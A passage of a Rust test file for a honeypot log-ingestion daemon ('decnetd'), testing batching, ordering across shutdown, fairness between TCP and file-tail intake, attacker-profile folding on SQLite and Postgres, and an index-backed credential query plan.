            .and_then(|e| e.get(key).and_then(serde_json::Value::as_u64))
            .unwrap_or(0)
    };
    // Batches committed once `want` logs are in (counted by the same heartbeat).
    let batches_at = |want: u64| async move {
        testkit::eventually(Duration::from_secs(60), || async {
            (counter("logs_inserted") >= want).then(|| counter("batches"))
        })
        .await
        .unwrap_or_else(|| panic!("{} of {want} logs inserted", counter("logs_inserted")))
    };

    // One write, so the tail sees the whole backlog at once.
    let file_lines = numbered(4_000, "tail");
    let mut text = file_lines.join("\n");
    text.push('\n');
    std::fs::write(&log_file, text).unwrap();
    let after_tail = batches_at(4_000).await;
    assert!(
        (1..=4).contains(&after_tail),
        "4,000 tailed lines took {after_tail} transactions"
    );

    let tcp_lines = numbered(4_000, "tcp");
    let wire = lf_wire(&tcp_lines);
    let mut sock = connect_retry(port).await;
    sock.write_all(&wire).await.unwrap();
    sock.shutdown().await.unwrap();
    let tcp_batches = batches_at(8_000).await - after_tail;
    assert!(
        (1..=20).contains(&tcp_batches),
        "4,000 queued TCP lines took {tcp_batches} transactions"
    );

    // A quiet line is not held back waiting for a large batch.
    write_lines(&log_file, &numbered(1, "quiet"));
    assert_eq!(batches_at(8_001).await, after_tail + tcp_batches + 1);
    assert_eq!(repo::count_logs(&app.state.db).await.unwrap(), 8_001);
    app.stop().await;
}

/// A TCP backlog crosses many backlog slices (the ingester returns to its loop every
/// `backlog_slice_ms`, here after every batch, and carries the batch it is parsing over to the
/// next slice): every line is stored once and in the order sent, also when a stop comes in the
/// middle of the backlog (the drain commits the batch parsed ahead before the lines behind it).
#[actix_rt::test]
async fn a_backlog_across_slices_keeps_order_and_survives_a_stop() {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let (mut s, port) = tcp_daemon_settings(dir.path());
    s.ingest.batch_size = 100;
    s.ingest.batch_max_size = 2_000;
    // A slice per batch: the batch behind each one is parsed ahead, and the stop finds one.
    s.ingest.backlog_slice_ms = 0;
    s.ingest.profile_interval_ms = 200;
    s.workers.shutdown_grace_s = 60.0;
    let app = testkit::start(s).await.unwrap();
    let lines = numbered(40_000, "slices");
    let wire = lf_wire(&lines);
    let mut sock = connect_retry(port).await;
    let sender = tokio::spawn(async move {
        sock.write_all(&wire).await.unwrap();
        sock.shutdown().await.unwrap();
    });
    let db = app.state.db.clone();
    // Stop once a few slices' worth is in, while the backlog still waits.
    let midway = testkit::eventually(Duration::from_secs(120), || async {
        (repo::count_logs(&db).await.ok()? >= 12_000).then_some(())
    })
    .await;
    assert!(midway.is_some(), "the backlog stalled");
    app.stop().await;
    sender.await.unwrap();
    let stored: Vec<String> = repo::all_logs(&db)
        .await
        .unwrap()
        .into_iter()
        .map(|l| l.raw_line)
        .collect();
    assert_eq!(stored.len(), lines.len(), "lines lost or repeated on stop");
    if let Some(i) = stored.iter().zip(&lines).position(|(a, b)| a != b) {
        panic!("stored out of order from line {i}: {:?}", stored[i]);
    }
}

/// Neither intake path holds the other back: a line that comes in on one path while a flood
/// of many slices on the other is being committed lands before that flood is done.
async fn one_line_during_a_flood(flood_on_tcp: bool) {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let (mut s, port) = tcp_daemon_settings(dir.path());
    s.ingest.batch_size = 100;
    s.ingest.batch_max_size = 1_000;
    s.ingest.backlog_slice_ms = 100;
    let log_file = s.ingest.log_file.clone();
    let app = testkit::start(s).await.unwrap();
    let flood = numbered(80_000, "flood");
    let sender = if flood_on_tcp {
        let wire = lf_wire(&flood);
        let mut sock = connect_retry(port).await;
        Some(tokio::spawn(async move {
            sock.write_all(&wire).await.unwrap();
            sock.shutdown().await.unwrap();
        }))
    } else {
        write_lines(&log_file, &flood);
        None
    };
    let db = app.state.db.clone();
    let flowing = testkit::eventually(Duration::from_secs(120), || async {
        (repo::count_logs(&db).await.ok()? >= 3_000).then_some(())
    })
    .await;
    assert!(flowing.is_some(), "the flood stalled");
    let probe = numbered(1, "probe");
    if flood_on_tcp {
        write_lines(&log_file, &probe);
    } else {
        let mut sock = connect_retry(port).await;
        sock.write_all(&lf_wire(&probe)).await.unwrap();
        sock.shutdown().await.unwrap();
    }
    // The probe is in; how much of the flood was in by then.
    let flood_then = testkit::eventually(Duration::from_secs(120), || async {
        let logs = repo::all_logs(&db).await.ok()?;
        logs.iter()
            .any(|l| l.raw_line.contains(" probe-0 "))
            .then(|| logs.len() - 1)
    })
    .await
    .expect("the probe line never landed");
    assert!(
        flood_then < flood.len(),
        "the probe waited for the whole flood ({flood_then} flood lines in first)"
    );
    if let Some(sender) = sender {
        sender.await.unwrap();
    }
    app.stop().await;
}

#[actix_rt::test]
async fn the_tail_is_read_during_a_tcp_flood() {
    one_line_during_a_flood(true).await;
}

#[actix_rt::test]
async fn the_listener_is_heard_during_a_tail_flood() {
    one_line_during_a_flood(false).await;
}

/// A profiler pass fed by the batches this process committed ([`repo::FoldHint`]) writes the
/// same attacker rows as a pass that reads and parses the stored lines, on every kind of line
/// (repeats, hostile bytes, JSON records, a JSON record whose stored `raw_line` is another
/// line), and it is not used when a row it did not commit sits above the cursor.
async fn fold_hints_write_what_a_full_read_writes(hinted: &Db, plain: &Db) {
    let s = IngestSettings {
        profile_interval_ms: 3_600_000,
        ..ingest_settings()
    };
    let mut lines: Vec<Vec<u8>> = corpus().into_iter().map(String::into_bytes).collect();
    lines.push(
        b"<134>1 2026-05-16T10:00:00Z d1 bash - command - CMD uid=0 user=root src=192.0.2.200 pwd=/ cmd=ls \xff\x00x"
            .to_vec(),
    );
    lines.push(
        br#"{"timestamp":"2026-05-16 10:00:01","decky":"j1","service":"http","event_type":"request","attacker_ip":"192.0.2.201","fields":{"path":"/a"},"msg":""}"#
            .to_vec(),
    );
    // Stored as its raw_line field, which the profiler parses as the line it is.
    lines.push(
        br#"{"timestamp":"2026-05-16 10:00:02","decky":"j2","service":"http","event_type":"request","attacker_ip":"192.0.2.202","fields":{},"msg":"","raw_line":"<134>1 2026-05-16T10:00:03Z j3 ssh - connect [relay@55555 src_ip=\"192.0.2.203\"]"}"#
            .to_vec(),
    );
    let to_raw = |ls: &[Vec<u8>]| -> Vec<decnetd::actors::ingester::RawLine> {
        ls.iter()
            .map(|l| decnetd::actors::ingester::RawLine::new(l.clone(), "test".into(), None))
            .collect()
    };
    let foreign = raw(&[
        r#"<134>1 2026-05-17T10:00:00Z other ssh - connect [relay@55555 src_ip="192.0.2.250"]"#
            .to_owned(),
    ]);
    let (half, rest) = lines.split_at(lines.len() / 2);
    let mut passes = Vec::new();
    for (db, hints) in [(hinted, true), (plain, false)] {
        let mut p = Pipeline::new(db.clone(), None, &s, Arc::new(IngestCounters::default()));
        p.set_fold_hints(hints);
        p.profile_pass().await.unwrap();
        let mut hinted_passes = Vec::new();
        // a first half in small batches, one of them twice (its repeat adds no row)
        for b in half.chunks(7) {
            p.commit(&to_raw(b), None).await.unwrap();
        }
        p.commit(&to_raw(&half[..7]), None).await.unwrap();
        hinted_passes.push(p.profile_pass().await.unwrap().hinted);
        // another process commits a row above the cursor: the hint no longer describes it
        let mut other = Pipeline::new(db.clone(), None, &s, Arc::new(IngestCounters::default()));
        p.commit(&to_raw(&rest[..3]), None).await.unwrap();
        other.commit(&foreign, None).await.unwrap();
        hinted_passes.push(p.profile_pass().await.unwrap().hinted);
        for b in rest[3..].chunks(11) {
            p.commit(&to_raw(b), None).await.unwrap();
        }
        hinted_passes.push(p.profile_pass().await.unwrap().hinted);
        passes.push(hinted_passes);
    }
    assert_eq!(passes[0], [true, false, true], "passes fed by the hint");
    assert_eq!(passes[1], [false, false, false]);
    let (a, b) = (snapshot(hinted).await, snapshot(plain).await);
    assert_eq!(a["attackers"], b["attackers"]);
    assert_eq!(a, b);
    let ips: Vec<String> = repo::all_attackers(hinted)
        .await
        .unwrap()
        .into_iter()
        .map(|a| a.ip)
        .collect();
    for ip in ["192.0.2.200", "192.0.2.201", "192.0.2.203", "192.0.2.250"] {
        assert!(ips.iter().any(|i| i == ip), "{ip} folded: {ips:?}");
    }
}

mod fold_hints_write_what_a_full_read_writes {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite() {
        let (_a, a) = crate::common::sqlite_db().await;
        let (_b, b) = crate::common::sqlite_db().await;
        super::fold_hints_write_what_a_full_read_writes(&a, &b).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres() {
        let Some(a) = crate::common::pg_db().await else {
            return;
        };
        let Some(b) = crate::common::pg_db().await else {
            return;
        };
        super::fold_hints_write_what_a_full_read_writes(&a, &b).await;
    }
}

/// The reuse pass's first read (the secrets written since its cursor) searches the
/// `touched_seq` index, so a pass with nothing new reads no credential row. With `DISTINCT`
/// SQLite walked the whole secret index instead: 0.3 s every minute on an idle daemon at
/// 300 000 credentials, with the writer's page cache filled each time.
#[tokio::test]
async fn reuse_pass_searches_the_touched_index_on_sqlite() {
    use diesel::sql_types::{BigInt, Text};
    use diesel_async::RunQueryDsl;
    #[derive(diesel::QueryableByName)]
    struct PlanRow {
        #[diesel(sql_type = Text)]
        detail: String,
    }
    let (_dir, db) = common::sqlite_db().await;
    let query = repo::changed_secrets_query(0);
    let sql = diesel::debug_query::<diesel::sqlite::Sqlite, _>(&query).to_string();
    let sql = sql.split(" -- binds").next().unwrap().to_owned();
    let explain = format!("EXPLAIN QUERY PLAN {sql}");
    let plan = async {
        let rows: Vec<PlanRow> = decnetd::db_run!(&db, |c| diesel::sql_query(explain)
            .bind::<BigInt, _>(0_i64)
            .load(c)
            .await
            .map_err(decnetd::db::DbError::from))?;
        Ok::<_, decnetd::db::DbError>(rows)
    }
    .await
    .unwrap();
    let plan: Vec<String> = plan.into_iter().map(|r| r.detail).collect();
    assert!(
        plan.iter()
            .any(|d| d.starts_with("SEARCH") && d.contains("ix_credentials_touched_seq")),
        "{sql}: {plan:?}"
    );
    assert!(
        !plan.iter().any(|d| d.starts_with("SCAN")),
        "{sql}: {plan:?}"
    );
}
